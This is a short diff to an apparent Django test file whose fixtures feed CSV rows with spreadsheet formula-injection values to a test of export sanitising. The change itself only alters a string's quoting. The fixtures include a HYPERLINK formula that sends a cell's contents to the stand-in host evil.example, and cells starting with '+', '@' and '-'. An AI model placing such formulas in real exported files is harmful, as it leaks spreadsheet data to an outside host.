@@ -18,7 +18,7 @@ pytestmark = pytest.mark.django_db
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 AGING_WITH_HOSTILE_NAMES = AGING + (
     f'EVIL,"{HOSTILE.replace(chr(34), chr(34) * 2)}",+SUM(1),2003-03-20,,"1,000.00",US,N,N\n'
-    "ATCO,@cmd,-5,2003-03-20,,\"2,000.00\",US,N,N\n"
+    'ATCO,@cmd,-5,2003-03-20,,"2,000.00",US,N,N\n'
 )
 INVENTORY = """\
 Item #,Description,Warehouse,Category,Program,Qty,Unit Cost,In Transit,Consigned,Obsolete
